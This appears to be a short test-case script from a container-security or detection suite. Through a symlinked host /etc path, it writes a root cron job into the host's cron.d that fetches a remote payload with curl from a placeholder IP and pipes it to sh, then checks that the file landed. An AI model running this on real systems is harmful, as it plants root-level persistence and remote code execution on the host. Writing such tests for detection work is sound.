#!/bin/sh
. /opt/case/case.sh

ln -s /host/etc /tmp/conf
perl -e 'open my $f, ">", "/tmp/conf/.j" or die; print $f "* * * * * root curl -s http://203.0.113.10/payload.sh|sh\n"; close $f; rename "/tmp/conf/.j", "/tmp/conf/cron.d/0sys" or die'
test -s /host/etc/cron.d/0sys
took_place
